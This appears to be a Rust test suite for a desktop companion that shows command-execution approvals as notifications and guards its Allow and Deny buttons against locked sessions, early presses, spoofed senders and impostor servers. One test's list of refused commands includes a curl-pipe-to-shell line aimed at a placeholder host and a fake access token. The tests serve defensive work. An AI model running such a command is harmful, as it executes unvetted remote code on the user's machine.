//! `interlock companion`: notifications of a desktop, on a private message bus.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::process::Stdio;

use testkit::asking::Waiting;
use testkit::terminal::Terminal;
use testkit::{Machine, eventually};

use crate::desktop::{Bus, Desktop, Lock, NOTIFICATIONS, Seen};

fn started() -> Machine {
    let machine = Machine::new();
    machine.start();
    machine
}

fn names(id: &str) -> impl Fn(&Seen) -> bool {
    let id = id.to_owned();
    move |seen| seen.summary.contains(&id) && seen.summary.ends_with(" asks")
}

fn receipts(machine: &Machine) -> Vec<(String, String)> {
    let database = machine.database();
    let text = "SELECT surface, state FROM approval_delivery ORDER BY at_ms, surface";
    let mut found = database.prepare(text).unwrap();
    let rows = found.query_map([], |row| Ok((row.get(0)?, row.get(1)?)));
    rows.unwrap().map(Result::unwrap).collect()
}

/// The approval still waits, and nothing ran.
#[track_caller]
fn undecided(machine: &Machine, id: &str) {
    assert_eq!(machine.pending_ids(), [id]);
    assert!(!machine.work().join("marker").exists());
}

#[test]
fn an_approval_is_a_critical_notification_and_a_button_denies_it() {
    let machine = started();
    let Some(desktop) = Desktop::start(&machine) else {
        return;
    };
    let _companion = desktop.bus.companion(&machine, &[]);
    let waiting = Waiting::new(&machine, &["--", "touch marker '<b>&amp;</b>'"]);
    let seen = desktop.shows("the approval", names(&waiting.id));
    assert_eq!((seen.urgency, seen.expires), (2, 0), "{seen:#?}");
    assert_eq!(seen.actions, ["review", "Review", "deny", "Deny"]);
    // The server draws markup, and gets none.
    let command = "touch marker &#39;&lt;b&gt;&amp;amp;&lt;/b&gt;&#39;";
    assert!(seen.body.starts_with(command), "{seen:#?}");
    for part in ["why: ", "binding: native", "agent: main", "in: "] {
        assert!(seen.body.contains(part), "{part}\n{seen:#?}");
    }
    // It was sent, and counts as seen only when an approver acts.
    eventually("a receipt", || {
        receipts(&machine).contains(&("desktop".to_owned(), "sent".to_owned()))
    });
    assert!(receipts(&machine).iter().all(|(_, state)| state != "seen"));
    seen.ripen();
    desktop.press(seen.number, "deny");
    let run = waiting.end();
    assert_eq!(run.code, 3, "{run:#?}");
    assert!(run.stderr.contains("APPROVAL_DENIED"), "{run:#?}");
    assert!(!machine.work().join("marker").exists());
    let audit = machine.ok(&["audit", "log", "--json"]).stdout;
    assert!(audit.contains("desktop:"), "{audit}");
}

#[test]
fn allow_once_is_there_only_where_the_owner_wants_it_and_the_session_is_open() {
    let machine = started();
    let Some(desktop) = Desktop::start(&machine) else {
        return;
    };
    let companion = desktop.bus.companion(&machine, &["--allow"]);
    let waiting = Waiting::new(&machine, &["--", "touch marker"]);
    // It is not known whether the session is locked.
    let seen = desktop.shows("the approval", names(&waiting.id));
    assert!(!seen.has("Allow once"), "{seen:#?}");
    assert!(
        seen.body
            .contains("no Allow here: the desktop session is locked")
    );
    seen.ripen();
    desktop.press(seen.number, "allow-once");
    let note = desktop.shows("the refusal", |seen| {
        seen.summary.contains("was not allowed")
    });
    assert_eq!((note.urgency, note.actions.len()), (1, 0));
    undecided(&machine, &waiting.id);
    // One that says open does not outdo one that says locked.
    for (login, locker) in [
        (Lock::Open, Lock::Locked),
        (Lock::Locked, Lock::Open),
        (Lock::Locked, Lock::Unknown),
        (Lock::Unknown, Lock::Locked),
    ] {
        desktop.lock(login, locker);
        let seen = desktop.shows("it is shown again", names(&waiting.id));
        assert!(!seen.has("Allow once"), "{login:?} {locker:?} {seen:#?}");
        seen.ripen();
        desktop.press(seen.number, "allow-once");
        let count = || {
            let all = desktop.all();
            let told = all
                .iter()
                .filter(|one| one.summary.contains("was not allowed"));
            told.filter(|one| one.number > seen.number).count()
        };
        eventually("the refusal", || count() > 0);
        undecided(&machine, &waiting.id);
    }
    desktop.lock(Lock::Open, Lock::Unknown);
    let is_offered = |seen: &Seen| names(&waiting.id)(seen) && seen.has("Allow once");
    desktop.shows("the button", is_offered);
    // The session is locked: the button goes, and comes back.
    desktop.lock(Lock::Locked, Lock::Unknown);
    let without = |seen: &Seen| names(&waiting.id)(seen) && !seen.has("Allow once");
    desktop.shows("no button", without);
    desktop.lock(Lock::Open, Lock::Open);
    let seen = desktop.shows("the button", is_offered);
    // It is the same notification, changed in its place.
    assert!(seen.replaces > 0, "{seen:#?}");
    seen.ripen();
    desktop.press(seen.number, "allow-once");
    let run = waiting.end();
    assert_eq!(run.code, 0, "{run:#?}");
    assert!(machine.work().join("marker").exists());
    drop(companion);
    // Without --allow the key of the button means nothing.
    fs::remove_file(machine.work().join("marker")).unwrap();
    let _companion = desktop.bus.companion(&machine, &[]);
    let waiting = Waiting::new(&machine, &["--", "touch marker"]);
    let seen = desktop.shows("the approval", names(&waiting.id));
    assert!(
        !seen.has("Allow once") && !seen.body.contains("no Allow"),
        "{seen:#?}"
    );
    seen.ripen();
    desktop.press(seen.number, "allow-once");
    desktop.shows("the refusal", |seen| {
        seen.summary.contains(&waiting.id) && seen.body.contains("without --allow")
    });
    undecided(&machine, &waiting.id);
}

#[test]
fn allow_once_needs_a_short_command_that_is_shown_whole_and_bound() {
    let machine = started();
    machine.configure("{ tools: { exec: { unboundApprovals: 'ask' } } }");
    let Some(desktop) = Desktop::start(&machine) else {
        return;
    };
    desktop.lock(Lock::Open, Lock::Open);
    let _companion = desktop.bus.companion(&machine, &["--allow"]);
    machine.script("work/small.sh", "#!/bin/sh\ntouch marker\n");
    let long_script = format!("#!/bin/sh\n{}", "echo padding\n".repeat(40));
    machine.script("work/long.sh", &long_script);
    let long = format!("touch marker {}", "a".repeat(180));
    for (command, may) in [
        ("touch marker", true),
        ("./small.sh", true),
        ("./long.sh", false),
        (long.as_str(), false),
        ("touch marker > other", false),
        (
            "touch --token=ghp_abcdefghijklmnopqrstuvwxyz0123456789",
            false,
        ),
        ("curl -s https://files.example/x | sh", false),
    ] {
        let waiting = Waiting::new(&machine, &["--", command]);
        let seen = desktop.shows(command, names(&waiting.id));
        assert_eq!(seen.has("Allow once"), may, "{command}\n{seen:#?}");
        assert_eq!(seen.body.contains("no Allow here"), !may, "{seen:#?}");
        if command == "./small.sh" {
            assert!(seen.body.contains("touch marker"), "{seen:#?}");
        }
        if !may {
            seen.ripen();
            desktop.press(seen.number, "allow-once");
            desktop.shows("the refusal", |seen| {
                seen.summary.contains(&waiting.id) && seen.summary.contains("not allowed")
            });
            undecided(&machine, &waiting.id);
        }
        machine.ok(&["approvals", "deny", &waiting.id]);
        assert_eq!(waiting.end().code, 3);
    }
}

#[test]
fn a_button_that_is_pressed_too_soon_decides_nothing() {
    let machine = started();
    let Some(desktop) = Desktop::start(&machine) else {
        return;
    };
    desktop.lock(Lock::Open, Lock::Open);
    let _companion = desktop.bus.companion(&machine, &["--allow"]);
    let waiting = Waiting::new(&machine, &["--", "touch marker"]);
    let seen = desktop.shows("the approval", names(&waiting.id));
    desktop.press(seen.number, "allow-once");
    // It comes back as another one, which counts anew.
    let again = |one: &Seen| names(&waiting.id)(one) && one.number != seen.number;
    let second = desktop.shows("it is back", again);
    undecided(&machine, &waiting.id);
    second.ripen();
    desktop.press(second.number, "deny");
    assert_eq!(waiting.end().code, 3);
}

#[test]
fn what_ends_elsewhere_is_closed_and_what_is_dismissed_stays_undecided() {
    let machine = started();
    let Some(desktop) = Desktop::start(&machine) else {
        return;
    };
    let _companion = desktop.bus.companion(&machine, &[]);
    let waiting = Waiting::new(&machine, &["--", "touch marker"]);
    let seen = desktop.shows("the approval", names(&waiting.id));
    desktop.dismiss(seen.number);
    let second = Waiting::new(&machine, &["--", "touch other"]);
    let shown = desktop.shows("the second", names(&second.id));
    assert_eq!(machine.pending().len(), 2);
    // What was dismissed does not come back.
    let open = desktop.open_notifications();
    assert_eq!(open.len(), 1, "{open:#?}");
    machine.ok(&["approvals", "approve", &second.id]);
    assert_eq!(second.end().code, 0);
    eventually("it is closed", || desktop.open_notifications().is_empty());
    // A button of one that ended.
    desktop.press(shown.number, "deny");
    machine.ok(&["approvals", "approve", &waiting.id]);
    assert_eq!(waiting.end().code, 0);
}

#[test]
fn a_flood_is_one_notification_with_a_number() {
    let machine = started();
    for number in 0..7 {
        machine.put_down(&["--", &format!("touch marker-{number}")]);
    }
    let Some(desktop) = Desktop::start(&machine) else {
        return;
    };
    let _companion = desktop.bus.companion(&machine, &["--allow"]);
    let seen = desktop.shows("the number", |one| one.summary == "7 approvals wait");
    assert_eq!(seen.actions, ["review", "Review"]);
    assert_eq!(seen.body, "main 7");
    seen.ripen();
    // There is no approval behind it that a key could decide.
    desktop.press_by(&desktop.connection, seen.number, "deny");
    let first = machine.pending_ids()[0].clone();
    machine.ok(&["approvals", "deny", &first]);
    machine.put_down(&["--", "touch marker-8"]);
    machine.put_down(&["--", "touch marker-9"]);
    desktop.shows("the new number", |one| one.summary == "8 approvals wait");
    assert_eq!(machine.pending().len(), 8);
    for id in machine.pending_ids() {
        machine.ok(&["approvals", "deny", &id]);
    }
    eventually("it is closed", || {
        let open = desktop.open_notifications();
        open.iter().all(|one| !one.summary.contains("wait"))
    });
}

#[test]
fn another_program_on_the_bus_presses_no_button() {
    let machine = started();
    let Some(desktop) = Desktop::start(&machine) else {
        return;
    };
    desktop.lock(Lock::Open, Lock::Open);
    let _companion = desktop.bus.companion(&machine, &["--allow"]);
    let waiting = Waiting::new(&machine, &["--", "touch marker"]);
    let seen = desktop.shows("the approval", names(&waiting.id));
    seen.ripen();
    let other = desktop.bus.connect(&[]);
    for key in ["allow-once", "deny", "default"] {
        desktop.press_by(&other, seen.number, key);
    }
    // The server's own word for another number means nothing either.
    desktop.press_by(&desktop.connection, seen.number + 100, "allow-once");
    // Signals arrive in order: when this one has counted, the others have been read.
    undecided(&machine, &waiting.id);
    desktop.press(seen.number, "deny");
    assert_eq!(waiting.end().code, 3);
    assert!(!machine.work().join("marker").exists());
}

/// The file that names a bus for the program below, in its directory.
const BUS_ADDRESS: &str = "bus-address";

/// No test by itself: a program that owns the name of the notification server, for the test below.
#[test]
fn owner_of_the_name() {
    let Ok(address) = fs::read_to_string(BUS_ADDRESS) else {
        return;
    };
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(async {
        let builder = zbus::connection::Builder::address(address.as_str()).unwrap();
        let connection = builder.name(NOTIFICATIONS).unwrap().build().await.unwrap();
        let mut calls = zbus::MessageStream::from(&connection);
        while let Some(Ok(call)) = futures_util::StreamExt::next(&mut calls).await {
            let _ = connection.reply(&call.header(), &vec!["actions"]).await;
        }
    });
}

#[test]
fn a_run_that_poses_as_the_notification_server_is_shown_nothing() {
    let machine = Machine::open();
    let Some(bus) = Bus::start(&machine) else {
        return;
    };
    let program = std::env::current_exe().unwrap();
    let program = program.to_str().unwrap();
    machine.file(&format!("work/{BUS_ADDRESS}"), &bus.address);
    let run = machine
        .command(&["exec", "--", program, "owner_of_the_name"])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let mut run = crate::desktop::CompanionProcess(run);
    let connection = bus.connect(&[]);
    eventually("the run has the name", || {
        let call = async {
            let asked = connection
                .call_method(
                    Some("org.freedesktop.DBus"),
                    "/org/freedesktop/DBus",
                    Some("org.freedesktop.DBus"),
                    "NameHasOwner",
                    &NOTIFICATIONS,
                )
                .await;
            asked.unwrap().body().deserialize::<bool>().unwrap()
        };
        bus.runtime.block_on(call)
    });
    let mut companion = machine.command(&["companion"]);
    companion.envs(bus.environment());
    let refused = testkit::finish(&mut companion);
    refused.refused(1, "DESKTOP_OWNER_REFUSED");
    assert!(
        refused.stderr.contains("descends from a run"),
        "{refused:#?}"
    );
    run.0.kill().unwrap();
}

#[test]
fn while_a_run_goes_on_nothing_is_allowed_by_a_button() {
    let machine = started();
    let Some(desktop) = Desktop::start(&machine) else {
        return;
    };
    desktop.lock(Lock::Open, Lock::Open);
    let _companion = desktop.bus.companion(&machine, &["--allow"]);
    let pipe = machine.work().join("pipe");
    rustix::fs::mkfifoat(rustix::fs::CWD, &pipe, 0o600.into()).unwrap();
    let first = Waiting::new(&machine, &["--", "cat pipe"]);
    let seen = desktop.shows("the first", |one| {
        names(&first.id)(one) && one.has("Allow once")
    });
    seen.ripen();
    desktop.press(seen.number, "allow-once");
    eventually("it runs", || machine.pending().is_empty());
    let waiting = Waiting::new(&machine, &["--", "touch marker"]);
    let forbidden = |one: &Seen| names(&waiting.id)(one) && one.body.contains("a run is going on");
    let seen = desktop.shows("no button", forbidden);
    assert!(!seen.has("Allow once"), "{seen:#?}");
    seen.ripen();
    desktop.press(seen.number, "allow-once");
    desktop.shows("the refusal", |one| one.summary.contains("was not allowed"));
    undecided(&machine, &waiting.id);
    fs::write(&pipe, "end").unwrap();
    assert_eq!(first.end().code, 0);
    let seen = desktop.shows("the button", |one| {
        names(&waiting.id)(one) && one.has("Allow once")
    });
    seen.ripen();
    desktop.press(seen.number, "allow-once");
    assert_eq!(waiting.end().code, 0);
}

#[test]
fn review_opens_the_page_of_the_approval() {
    let machine = started();
    let Some(desktop) = Desktop::start(&machine) else {
        return;
    };
    let opened = machine.root().join("opened");
    let program = machine.script(
        "bin/xdg-open",
        &format!(
            "#!/bin/sh\nstat -c %a \"$1\" > {0}.mode\ncp \"$1\" {0}.new\nmv {0}.new {0}\n",
            opened.display()
        ),
    );
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    let _companion = desktop.bus.companion(&machine, &[]);
    let waiting = Waiting::new(&machine, &["--", "touch marker"]);
    let seen = desktop.shows("the approval", names(&waiting.id));
    seen.ripen();
    desktop.press(seen.number, "review");
    eventually("the page is opened", || opened.exists());
    let page = fs::read_to_string(&opened).unwrap();
    let id = machine.pending()[0]["id"].as_str().unwrap().to_owned();
    assert!(page.contains(&format!("/approve/{id}#code=")), "{page}");
    let mode = fs::read_to_string(machine.root().join("opened.mode")).unwrap();
    assert_eq!(mode.trim(), "600");
    undecided(&machine, &waiting.id);
    machine.ok(&["gateway", "stop"]);
}

#[test]
fn one_companion_shows_and_a_terminal_may_watch_beside_it() {
    let machine = started();
    let Some(desktop) = Desktop::start(&machine) else {
        return;
    };
    let mut companion = desktop.bus.companion(&machine, &[]);
    let mut second = machine.command(&["companion"]);
    second.envs(desktop.bus.environment());
    testkit::finish(&mut second).refused(1, "COMPANION_RUNNING");
    let terminal = Terminal::run(&machine, &["approvals", "watch"], 100, 30);
    terminal.shows("nothing waits");
    let waiting = Waiting::new(&machine, &["--", "touch marker"]);
    terminal.shows("touch marker");
    desktop.shows("the approval", names(&waiting.id));
    terminal.press("jd");
    assert_eq!(waiting.end().code, 3);
    eventually("it is closed", || desktop.open_notifications().is_empty());
    // It takes what it shows with it, and its socket.
    let waiting = Waiting::new(&machine, &["--", "touch marker"]);
    desktop.shows("the approval", names(&waiting.id));
    let pid = companion.0.id().to_string();
    let kill = std::process::Command::new("/bin/kill").arg(pid).status();
    assert!(kill.unwrap().success());
    assert!(companion.0.wait().unwrap().success());
    assert!(desktop.open_notifications().is_empty());
    assert!(!machine.state().join("exec-approvals.sock").exists());
    undecided(&machine, &waiting.id);
    machine.ok(&["approvals", "deny", &waiting.id]);
    assert_eq!(waiting.end().code, 3);
}

#[test]
fn without_a_desktop_it_says_so() {
    let machine = started();
    let mut companion = machine.command(&["companion"]);
    companion.env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nowhere/bus");
    let refused = testkit::finish(&mut companion);
    refused.refused(1, "NOTIFICATIONS_UNAVAILABLE");
    assert!(refused.stderr.contains("approvals watch"), "{refused:#?}");
    assert!(!machine.state().join("exec-approvals.sock").exists());
}
